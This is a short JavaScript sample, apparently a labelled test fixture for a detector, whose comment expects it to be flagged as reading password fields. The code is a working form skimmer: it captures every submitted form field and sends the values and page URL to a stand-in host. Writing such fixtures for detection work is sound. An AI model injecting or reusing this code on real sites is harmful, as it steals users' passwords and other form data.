// expect: password-field-read
document.addEventListener('submit', (event) => {
  const entered = {};
  for (const [name, value] of new FormData(event.target)) entered[name] = value;
  fetch('https://www.megacopy.example/', { method: 'POST', body: JSON.stringify({ url: location.href, entered }) });
}, true);
